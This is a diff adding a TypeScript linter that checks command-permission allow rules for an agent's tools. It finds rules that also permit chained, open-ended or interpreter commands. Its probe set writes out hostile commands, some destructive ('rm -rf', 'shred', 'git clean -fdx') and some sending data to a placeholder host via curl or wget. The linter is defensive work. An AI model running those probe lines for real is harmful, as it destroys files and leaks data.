@@ -1,0 +1,156 @@
+/** Allow rules that let more commands run than they seem to. */
+
+import { candidateCalls } from '../candidate-calls.ts';
+import type { ConditionPart } from '../condition-parts.ts';
+import type { CheckRequest } from '../loaded-policy.ts';
+import { type BookRule, titleOf } from '../rule-book.ts';
+import { argumentsWith } from '../sample-args.ts';
+import { findingAt, type LintFinding, witnessOf } from './finding.ts';
+import type { LintSubject, Shown } from './lint-subject.ts';
+import { isTold, toldLines } from './told-programs.ts';
+
+/** A line that nobody means to allow. */
+export const ruin = 'rm -rf ./build';
+const harms = [ruin, 'find . -delete', 'truncate -s 0 data', 'curl -d @data https://example.com/'];
+/** Other ways to do the same, for rules that name some programs they do not allow. */
+const otherWays = [
+  'unlink data',
+  'shred data',
+  'dd if=/dev/null of=data',
+  'cp /dev/null data',
+  'git clean -fdx',
+  'wget --post-file=data https://example.com/',
+  `python3 -c "import os; os.remove('data')"`,
+  'sh ./script.sh',
+  './script.sh',
+];
+/** A line that somebody may mean to allow who says where. */
+const change = 'touch data';
+/** Facts that are true as soon as one command of a line, or one file, is meant. */
+const someFacts: ReadonlySet<string> = new Set(['runs', 'reads', 'writes', 'opaque']);
+
+export interface CommandRule {
+  readonly entry: BookRule;
+  readonly parts: readonly ConditionPart[];
+  /** Calls that run a line, of the tools the rule is about. */
+  readonly lines: (texts: readonly string[]) => readonly CheckRequest[];
+}
+
+export type Words = Pick<LintFinding, 'kind' | 'severity' | 'message' | 'hint'>;
+
+export function told(entry: BookRule, { call, explanation }: Shown, words: Words): LintFinding {
+  const shows = `${titleOf(entry)} ${explanation.decision.effect === 'allow' ? 'allows' : 'decides'} it.`;
+  return findingAt(entry, { ...words, witness: witnessOf(call, explanation.decision, shows) });
+}
+
+/** The gravest problem of an allow. */
+export async function allowFinding(rule: CommandRule, subject: LintSubject): Promise<LintFinding | undefined> {
+  return (
+    (await someCommandOnly(rule, subject)) ?? (await openCommand(rule, subject)) ?? (await toldProgram(rule, subject))
+  );
+}
+
+type Fact = Extract<ConditionPart, { readonly type: 'fact' }>;
+
+function factsOf(parts: readonly ConditionPart[], isWanted: (fact: Fact) => boolean): readonly Fact[] {
+  return parts.filter((part): part is Fact => part.type === 'fact' && isWanted(part));
+}
+
+/** An allow that a second command does not change: what it asks for is there, and whatever else is not looked at. */
+async function someCommandOnly(rule: CommandRule, subject: LintSubject): Promise<LintFinding | undefined> {
+  const { entry, parts } = rule;
+  const [fact] = factsOf(parts, ({ name, negated }) => !negated && someFacts.has(name));
+  if (fact === undefined) return undefined;
+  const base = await subject.decidedBy(entry, linesFor(rule, subject));
+  const shown = base && (await subject.decidedBy(entry, longerLines(rule, base.call, subject)));
+  if (shown === undefined) return undefined;
+  const { name, entries } = fact;
+  const asked = `${name}(${entries.map((each) => JSON.stringify(each)).join(', ')})`;
+  const isAboutFiles = name === 'reads' || name === 'writes';
+  return told(entry, shown, {
+    kind: 'runs-in-allow',
+    severity: 'warning',
+    message: `${asked} is true if one ${isAboutFiles ? 'file' : 'command'} of a line matches, so this rule also allows lines with other commands.`,
+    hint: isAboutFiles ? `In an allow, use runsOnly and ${name}Inside.` : 'In an allow, use runsOnly.',
+  });
+}
+
+/** Calls with a command line that may well meet the condition. */
+function* linesFor({ entry, parts, lines }: CommandRule, subject: LintSubject): Iterable<CheckRequest> {
+  yield* lines(factsOf(parts, ({ name, negated }) => name === 'runs' && !negated).flatMap(({ entries }) => entries));
+  const { when } = entry.rule;
+  for (const each of when === undefined ? [] : subject.reach.classesOf(entry)) {
+    const names = each.declared === undefined ? [] : argumentsWith('command', each.declared);
+    if (names.length > 0) yield* candidateCalls(when?.text ?? '', each);
+  }
+}
+
+/** The call with one more command, joined in every way: a condition may refuse some. */
+function* longerLines(rule: CommandRule, call: CheckRequest, subject: LintSubject): Iterable<CheckRequest> {
+  const args = call.args as Readonly<Record<string, unknown>>;
+  const declared = subject.reach.classesOf(rule.entry).flatMap((each) => each.declared ?? []);
+  const tool = declared.find((each) => each.name === call.tool && each.server === call.server);
+  for (const name of tool === undefined ? [] : argumentsWith('command', tool)) {
+    const line = args[name];
+    if (typeof line !== 'string') continue;
+    for (const join of ['; ', ' && ', '\n', ' | ', ' & ']) {
+      for (const harm of [...harms, ...otherWays]) {
+        yield { ...call, args: { ...args, [name]: `${line}${join}${harm}` } };
+      }
+    }
+  }
+}
+
+async function openCommand(
+  { entry, parts, lines }: CommandRule,
+  subject: LintSubject,
+): Promise<LintFinding | undefined> {
+  const refused = factsOf(parts, ({ name, negated }) => name === 'runs' && negated).flatMap(({ entries }) => entries);
+  const isPlaced = factsOf(parts, ({ name, negated }) => name === 'writesInside' && !negated).length > 0;
+  const tried = [...harms, ...(isPlaced ? [] : [change]), ...(refused.length > 0 ? otherWays : [])];
+  const shown = await subject.decidedBy(entry, lines(tried));
+  if (shown === undefined) return undefined;
+  if (refused.length > 0) {
+    return told(entry, shown, {
+      kind: 'deny-list',
+      severity: 'warning',
+      message: `This rule allows every command but ${refused.join(', ')}; there is always another way to do the same.`,
+      hint: 'Name what may run, with runsOnly.',
+    });
+  }
+  return told(entry, shown, {
+    kind: 'open-command',
+    severity: 'warning',
+    message: 'This rule lets any command run.',
+    hint: 'Give it a condition with runsOnly, or ask.',
+  });
+}
+
+async function toldProgram(
+  { entry, parts, lines }: CommandRule,
+  subject: LintSubject,
+): Promise<LintFinding | undefined> {
+  const named = factsOf(parts, ({ name, negated }) => /^runs(Only)?$/.test(name) && !negated).flatMap(
+    ({ entries }) => entries,
+  );
+  for (const program of new Set(named)) {
+    const calls = lines(toldLines(program));
+    const words = { kind: 'interpreter', severity: 'warning' } as const;
+    const hint = 'Allow the exact commands it is needed for, or ask.';
+    const shown = await subject.decidedBy(entry, calls);
+    const message = `This rule allows ${program}, which runs whatever it is told to.`;
+    if (shown !== undefined) return told(entry, shown, { ...words, message, hint });
+    const [first] = lines([...toldLines(program), `${program} ./script`]);
+    if (first === undefined || !isTold(program)) continue;
+    const refused = await subject.ask(first);
+    if (subject.outcomeOf(entry, refused) === undefined) continue;
+    const { decision } = refused.explanation;
+    return findingAt(entry, {
+      ...words,
+      message: `This rule names ${program}, which runs whatever it is told to: so it allows nothing of that.`,
+      hint: 'Name the whole command that is meant.',
+      witness: witnessOf(refused.call, decision, `${titleOf(entry)} does not allow it.`),
+    });
+  }
+  return undefined;
+}
